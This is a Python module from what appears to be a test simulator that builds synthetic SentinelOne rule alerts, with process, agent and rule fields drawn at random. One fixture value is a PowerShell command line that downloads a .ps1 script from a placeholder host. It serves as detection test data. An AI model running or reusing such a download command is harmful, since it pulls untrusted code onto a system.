"""Alerts of custom and platform rules: many keys, nearly all in lower case."""

from __future__ import annotations

from sentinelone_collector.simulator._time import DAY, MS, SECOND, from_us
from sentinelone_collector.simulator.records import Kind, Scene

__all__ = ["KINDS"]

_RULES = (
    ("PowerShell downloads a file", "E_MEDIUM"),
    ("Anmeldung außerhalb der Bürozeit", "E_LOW"),
    ("Unsigned driver loaded", "E_HIGH"),
    ("Shell history cleared", "E_LOW"),
)
_EMPTY_TEXT = (
    "dnsrequest", "dnsresponse", "dstip", "eventdetails", "k8sclustername", "k8scontainerid", "k8scontainerimage",
    "k8scontainerlabels", "k8scontainername", "k8scontrollerkind", "k8scontrollerlabels", "k8scontrollername",
    "k8snamespace", "k8snamespacelabels", "k8snode", "k8spod", "k8spodlabels", "loginaccountdomain", "loginaccountsid",
    "loginisadministratorequivalent", "loginissuccessful", "loginsusername", "logintype", "modulepath", "modulesha1",
    "neteventdirection", "registrykeypath", "registryoldvalue", "registryoldvaluetype", "registrypath",
    "registryvalue", "srcip", "srcmachineip", "tgtfilehashsha1", "tgtfilehashsha256", "tgtfileid", "tgtfileissigned",
    "tgtfileoldpath", "tgtfilepath", "tgtproccmdline", "tgtprocimagepath", "tgtprocname", "tgtprocsignedstatus",
    "tgtprocstorylineid", "tgtprocuid", "tiindicatorcomparisonmethod", "tiindicatorsource", "tiindicatortype",
    "tiindicatorvalue",
)  # fmt: skip


def _process(scene: Scene) -> dict[str, object]:
    dice = scene.dice
    started = scene.at // MS - dice.between(1_000, 3_600_000)
    name = dice.pick(("powershell.exe", "bash", "mmc.exe"))
    return {
        "sourceparentprocesscommandline": 'C:\\WINDOWS\\Explorer.EXE /factory,"{75dff2b7}"',
        "sourceparentprocessname": "explorer.exe",
        "sourceparentprocesspid": dice.between(400, 30_000),
        "sourceparentprocessstarttime": started - 60_000,
        "sourceprocesscommandline": f'"{name}" -NoProfile -Command "iwr https://updates.example.net/ä.ps1"',
        "sourceprocessfilepath": f"C:\\Windows\\System32\\{name}",
        # Older releases misspelt the key; both are alive.
        dice.pick(
            ("sourceprocessfilesigneridentity", "sourceprocessfilesingeridentity")
        ): "MICROSOFT WINDOWS PUBLISHER",
        "sourceprocessintegritylevel": "high",
        "sourceprocesskey": dice.hex(16).upper(),
        "sourceprocessmd5": dice.hex(32),
        "sourceprocessname": name,
        "sourceprocesspid": dice.between(400, 30_000),
        "sourceprocesssha1": dice.hex(40),
        "sourceprocesssha256": dice.hex(64),
        "sourceprocessstarttime": started,
        "sourceprocessstoryline": dice.hex(16).upper(),
        "sourceprocessusername": "ALDERMOOR\\kiosk",
    }


def _alert(scene: Scene, data: dict[str, object]) -> None:
    dice, agent = scene.dice, scene.agent
    rule, severity = dice.pick(_RULES)
    rule_id = dice.big_id()
    data.update(dict.fromkeys(_EMPTY_TEXT, ""))
    data.update(_process(scene))
    detected = scene.at - dice.between(2 * SECOND, 17 * SECOND)
    # Retyped between releases: epoch milliseconds, later ISO text.
    text_time = from_us(detected).strftime("%Y-%m-%dT%H:%M:%SZ")
    data |= {
        "alertid": dice.big_id(),
        "detectedat": dice.pick((detected // MS, text_time)),
        "dstport": 0,
        "dveventtype": dice.pick(("BEHAVIORALINDICATORS", "PROCESSCREATION", "FILEMODIFICATION")),
        "eventtime": detected // MS - dice.between(0, 60_000),
        "indicatordescription": "Read more at <a href='https://attack.example.net/T1059'>T1059</a>",
        "origagentmachinetype": "laptop",
        "origagentname": agent.name if agent else "",
        "origagentosfamily": agent.os_family if agent else "",
        "origagentosname": agent.os_name if agent else "",
        "origagentsiteid": scene.place.site_id,
        "origagentuuid": agent.uuid if agent else "",
        "origagentversion": agent.version if agent else "",
        "ruledescription": f"{rule}.\nSee the runbook.",
        "ruleid": dice.pick((rule_id, str(rule_id))),
        "rulename": rule,
        "rulescopeid": int(scene.place.site_id or 0),
        "rulescopelevel": "E_SITE",
        "scopeId": int(scene.place.group_id or 0),
        "severity": severity,
        "sourcename": "STAR",
        "srcport": 0,
        "systemUser": 0,
        "tgtfilecreatedat": dice.pick((0, "1970-01-01T00:00:00Z")),
        "tgtfilemodifiedat": dice.pick((0, (scene.at + 58_000 * DAY) // MS)),
        "userId": dice.big_id(),
        "userName": "",
    }


_TAIL = "in {fullScopeDetails}, detected on {origagentname}."

KINDS = (
    Kind(
        3608,
        "Custom Rules - New Alert",
        "Alert created for {sourceprocessname} from Custom Rule: {rulename} " + _TAIL,
        _alert,
        "sourceprocesssha1",
    ),
    Kind(
        3784,
        "Alert created from Platform Rule",
        "Alert created for {sourceprocessname} from Platform Rule: {rulename} " + _TAIL,
        _alert,
        "sourceprocesssha1",
    ),
)
